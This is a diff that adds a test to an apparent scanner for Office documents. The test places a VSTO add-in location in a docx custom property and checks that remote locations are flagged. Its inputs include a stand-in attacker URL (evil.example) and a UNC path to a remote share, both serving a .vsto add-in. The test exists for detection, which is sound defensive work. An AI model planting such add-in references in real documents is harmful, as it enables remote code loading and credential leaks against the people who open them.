@@ -144,6 +144,25 @@ def test_templates_named_in_documents(xml: bytes, names: set[str]):
     assert found(xml) == names
 
 
+ADD_IN = (
+    '<Properties><property fmtid="{D}" pid="2" name="_AssemblyName"><vt:lpwstr>4E3C</vt:lpwstr></property>'
+    '<property fmtid="{D}" pid="3" name="_AssemblyLocation"><vt:lpwstr>%s|0a|vstolocal</vt:lpwstr></property>'
+)
+
+
+@pytest.mark.parametrize(
+    ("place", "names"),
+    [
+        ("https://evil.example/a.vsto", REMOTE),
+        ("\\\\192.0.2.1\\a\\a.vsto", REMOTE),
+        ("file:///C:/Program Files/a/a.vsto", set()),
+        ("a.vsto", set()),
+    ],
+)
+def test_add_in_that_comes_with_a_document(place: str, names: set[str]):
+    assert found(docx(extra={"docProps/custom.xml": (ADD_IN % place).encode()})) == names
+
+
 # ActiveMime.
 
 
